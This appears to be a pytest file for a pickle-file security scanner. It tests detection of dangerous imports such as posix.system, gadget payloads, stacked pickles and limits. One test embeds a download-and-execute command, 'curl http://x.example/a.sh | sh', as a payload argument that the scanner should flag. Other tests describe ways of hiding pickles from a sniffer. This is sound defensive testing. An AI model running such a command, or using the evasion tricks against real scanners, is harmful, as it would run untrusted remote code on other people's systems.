"""The opcode engine: imports, stacked streams, breaks, limits, gadgets."""

from __future__ import annotations

import io
import pickle

import pytest

from app.core.findings import FindingSink, Severity
from app.core.limits import Limits, ReadBudgetExceeded
from app.core.scanners.pickle_engine.analysis import analyze_pickles
from app.core.scanners.pickle_engine.walk_state import PickleAnalysis, ReadMode
from tests.fakes import CountingStream
from tests.samples import hostile
from tests.samples import opcodes as op


def run(data: bytes, limits: Limits | None = None, **kwargs: object) -> tuple[PickleAnalysis, list[tuple[str, str]]]:
    sink = FindingSink("f.pkl", "hfvet-pickle")
    analysis = analyze_pickles(io.BytesIO(data), sink, limits or Limits(), **kwargs)  # type: ignore[arg-type]
    return analysis, [(f.rule, f.severity.value) for f in sink.findings]


@pytest.mark.parametrize("protocol", range(6))
def test_benign_pickles_of_every_protocol_are_clean(protocol: int) -> None:
    value = {"a": [1, (2, "x")], "b": {1, 2}, "c": frozenset([3]), "d": b"raw", "e": bytearray(b"q"), "f": 1.5}
    analysis, findings = run(pickle.dumps(value, protocol=protocol))
    assert findings == []
    assert analysis.pickles == 1 and not analysis.broken


@pytest.mark.parametrize("protocol", range(6))
def test_payload_is_found_in_every_protocol(protocol: int) -> None:
    analysis, findings = run(hostile.by_protocol(protocol))
    assert ("pickle-dangerous-global", "critical") in findings
    assert analysis.imports == ["posix.system"]


def test_stack_global_resolves_through_the_memo() -> None:
    analysis, findings = run(hostile.memo_stack_global())
    assert analysis.imports == ["posix.system"]
    assert ("pickle-dangerous-global", "critical") in findings


def test_computed_stack_global_names_are_unresolved() -> None:
    _, findings = run(hostile.runtime_names())
    assert ("pickle-unresolved-global", "critical") in findings


def test_every_stacked_pickle_is_walked() -> None:
    data = pickle.dumps([1], protocol=2) + pickle.dumps({"x": 2}, protocol=4) + hostile.by_protocol(0)
    analysis, findings = run(data)
    assert analysis.pickles == 3
    assert ("pickle-dangerous-global", "critical") in findings


def test_max_pickles_stops_before_later_pickles() -> None:
    data = pickle.dumps([1], protocol=2) + hostile.by_protocol(2)
    analysis, findings = run(data, max_pickles=1)
    assert analysis.pickles == 1 and findings == []


def test_what_precedes_a_break_still_counts() -> None:
    analysis, findings = run(hostile.broken_after_payload())
    assert analysis.broken
    assert ("pickle-dangerous-global", "critical") in findings
    assert ("pickle-broken-stream", "high") in findings


@pytest.mark.parametrize("data", [b"\x80\x02h\x05.", b"\x80\x02t."])
def test_malformed_streams_are_broken(data: bytes) -> None:
    analysis, findings = run(data)
    assert analysis.broken and ("pickle-broken-stream", "high") in findings


@pytest.mark.parametrize("data", [b"", b"\x80\x02(", b"\x80\x09N."])
def test_streams_every_unpickler_breaks_on_before_any_code_are_inert(data: bytes) -> None:
    # Empty, cut before STOP, an unknown protocol: the loader fails there having run nothing (issue 22, item 5).
    analysis, findings = run(data)
    assert analysis.broken and findings == [("pickle-broken-inert", "low")]


def test_trailing_non_pickle_data_is_reported() -> None:
    _, findings = run(pickle.dumps([1], protocol=2) + b"\x00\x01 not a pickle at all \xff" * 4)
    assert findings == [("pickle-trailing-data", "low")]


def test_unknown_global_is_medium_with_module_name_evidence() -> None:
    sink = FindingSink("f.pkl", "hfvet-pickle")
    # Imported, never called (a call is judged too: pickle-unknown-call, test_calls.py).
    analyze_pickles(io.BytesIO(op.proto(2) + op.glob("sklearn.tree._tree", "Tree") + op.STOP), sink, Limits())
    [finding] = sink.findings
    assert (finding.rule, finding.severity, finding.evidence) == (
        "pickle-unknown-global", Severity.MEDIUM, "sklearn.tree._tree.Tree")


def test_member_is_attached_to_findings() -> None:
    sink = FindingSink("m.pt", "hfvet-pickle")
    analyze_pickles(io.BytesIO(hostile.by_protocol(2)), sink, Limits(), member="archive/data.pkl")
    assert {f.member for f in sink.findings} == {"archive/data.pkl"}


def test_opcode_limit_is_a_high_finding() -> None:
    analysis, findings = run(pickle.dumps(list(range(500)), protocol=0), Limits(max_pickle_opcodes=100))
    assert analysis.limit_hit and ("limit-exceeded", "high") in findings


def test_long_arguments_are_skipped_by_seeking() -> None:
    big = b"\x00" * 5_000_000
    data = op.proto(4) + op.binbytes(big) + op.POP + hostile.by_protocol(2)[2:]
    stream = CountingStream(data)
    sink = FindingSink("f.pkl", "hfvet-pickle")
    analysis = analyze_pickles(stream, sink, Limits(max_string_arg=1024))
    assert stream.consumed < 10_000
    assert analysis.imports == ["posix.system"]


def test_over_long_global_name_is_unresolved() -> None:
    data = op.proto(2) + b"cposix\n" + b"s" * 3000 + b"\n" + op.STOP
    _, findings = run(data, Limits(max_string_arg=1024))
    assert ("pickle-unresolved-global", "critical") in findings


def test_skipped_string_operand_makes_stack_global_unresolved() -> None:
    data = op.proto(4) + op.short_uni("posix") + op.uni("s" * 2000) + op.STACK_GLOBAL + op.STOP
    _, findings = run(data, Limits(max_string_arg=1024))
    assert ("pickle-unresolved-global", "critical") in findings


def test_truncated_long_argument_is_broken() -> None:
    data = op.proto(4) + b"B" + (10_000_000).to_bytes(4, "little") + b"abc"
    analysis, _ = run(data, Limits(max_string_arg=16))
    assert analysis.broken


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (hostile.NUMPY_BUILTINS_POC, "pickle-global-mutation"),
        (hostile.NUMPY_BUILTINS_POC, "pickle-dynamic-call"),
        (hostile.build_slot_injection(), "pickle-global-mutation"),
        (hostile.setitem_on_global(), "pickle-global-mutation"),
        (hostile.ext_code(), "pickle-unresolved-global"),
        (hostile.dict_get_builtins(), "pickle-dangerous-global"),
    ],
)
def test_gadgets(data: bytes, rule: str) -> None:
    _, findings = run(data)
    assert any(r == rule for r, _ in findings)


def test_unknown_callable_with_a_command_argument_is_suspicious() -> None:
    _, findings = run(op.system_call("somelib.tools", "Helper", "curl http://x.example/a.sh | sh"))
    assert ("pickle-suspicious-call", "critical") in findings  # issue 11: command-like arguments are critical
    assert ("pickle-unknown-global", "medium") in findings


def test_build_on_an_instance_is_not_a_mutation() -> None:
    data = op.proto(2) + op.call(op.glob("collections", "OrderedDict")) + op.EMPTY_DICT + op.BUILD + op.STOP
    _, findings = run(data)
    assert findings == []


def test_joblib_array_bytes_are_stepped_over() -> None:
    from tests.samples import benign

    analysis, findings = run(benign.joblib_like())
    assert findings == [] and analysis.pickles == 1
    assert "joblib.numpy_pickle.NumpyArrayWrapper" in analysis.imports


def test_joblib_object_array_payload_is_analysed() -> None:
    _, findings = run(hostile.joblib_object_array_payload())
    assert ("pickle-dangerous-global", "critical") in findings


@pytest.mark.parametrize("number", [b"I0x10\n", b"I007\n", b"I1_000\n", b"L12L\n", b"F nan\n", b"I 5 \n"])
def test_numbers_the_unpickler_accepts_do_not_stop_the_walk(number: bytes) -> None:
    analysis, findings = run(number + op.POP + hostile.by_protocol(0))
    assert not analysis.broken
    assert ("pickle-dangerous-global", "critical") in findings


def _hidden(payload: bytes) -> bytes:
    """A pickle whose 300-character first string hides it from the 256-byte trailing sniff."""
    return op.uni0("A" * 300) + op.POP + payload


def test_a_pickle_hidden_after_the_first_is_still_walked() -> None:
    _, findings = run(pickle.dumps([1], protocol=2) + _hidden(hostile.hostile_p0_body()))
    assert ("pickle-trailing-data", "low") in findings
    assert ("pickle-dangerous-global", "critical") in findings


def test_legacy_torch_pickle_hidden_from_the_sniffer_is_walked() -> None:
    parts = [pickle.dumps(op.TORCH_MAGIC, protocol=2), pickle.dumps(1001, protocol=2),
             pickle.dumps({"protocol_version": 1001}, protocol=2), _hidden(hostile.hostile_p0_body())]
    _, findings = run(b"".join(parts) + pickle.dumps([], protocol=2), max_pickles=5)
    assert ("pickle-dangerous-global", "critical") in findings


def test_lenient_walk_that_hits_a_limit_is_not_quiet() -> None:
    data = _hidden(b"I1\n0" * 200 + hostile.hostile_p0_body())  # the import lies past the opcode limit
    analysis, findings = run(data, Limits(max_pickle_opcodes=100), mode=ReadMode(lenient=True))
    assert analysis.limit_hit and findings == [("limit-exceeded", "high")]


def test_lenient_walk_of_text_without_imports_is_quiet() -> None:
    analysis, findings = run(b"I1\n0" * 20 + b"just some text\n", mode=ReadMode(lenient=True))
    assert analysis.broken and findings == []


def test_read_budget_is_not_swallowed_by_the_stream_walk() -> None:
    class Spent(io.BytesIO):
        def read(self, size: int | None = -1) -> bytes:
            raise ReadBudgetExceeded("read more than 10 bytes from the file")

    with pytest.raises(ReadBudgetExceeded):
        analyze_pickles(Spent(), FindingSink("f.pkl", "hfvet-pickle"), Limits())


def test_call_chains_thousands_deep_give_bounded_evidence() -> None:
    # getattr()()()... 3000 deep: evidence used to recurse per level (cubic text, then
    # RecursionError past ~1000 levels, which ended the whole walk).
    data = op.proto(2) + op.glob("builtins", "getattr") + (op.EMPTY_TUPLE + op.REDUCE) * 3000 + op.STOP
    sink = FindingSink("f.pkl", "hfvet-pickle")
    analysis = analyze_pickles(io.BytesIO(data), sink, Limits())
    assert analysis.pickles == 1 and not analysis.broken
    dynamic = [f for f in sink.findings if f.rule == "pickle-dynamic-call"]
    assert [f.evidence for f in dynamic] == [
        "result of calling global builtins.getattr",
        "result of calling result of calling global builtins.getattr",
        "result of calling result of calling result of calling global builtins.getattr",
        "result of more than 3 nested calls of global builtins.getattr",
    ]
    assert all(f.severity is Severity.HIGH for f in dynamic)
    assert sum(len(f.message) for f in sink.findings) < 2000
